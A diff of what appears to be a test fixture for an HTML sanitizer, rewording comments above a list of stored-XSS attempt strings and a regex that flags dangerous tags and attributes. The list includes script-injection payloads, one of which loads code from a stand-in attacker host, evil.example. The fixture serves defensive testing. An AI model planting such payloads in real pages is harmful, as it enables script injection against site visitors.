@@ -1,4 +1,4 @@
-/** Stored scripts as they are tried: each would set `window.hit`, open a dialog or ask another host if a browser took it at its word. */
+/** Attempts at stored XSS: each would set `window.hit`, open a dialog or call another host if a browser executed it. */
 export const hostileHtml: readonly string[] = [
   '<script>window.hit=1</script>',
   '<script src="https://evil.example/x.js"></script>',
@@ -50,6 +50,6 @@ export const hostileHtml: readonly string[] = [
   '<p id="root" name="content" class="hit">이름을 빼앗기</p>',
 ]
 
-/** What must not be left of any of them. */
+/** What must not remain of any of them. */
 export const danger =
   /<(script|style|svg|math|iframe|object|embed|form|input|button|textarea|link|meta|base|video|audio|template|details)\b|<[^>]*\s(on\w+|style|id|srcdoc|formaction)\s*=|<[^>]*(javascript|vbscript|data):|<[^>]*="\/\//i
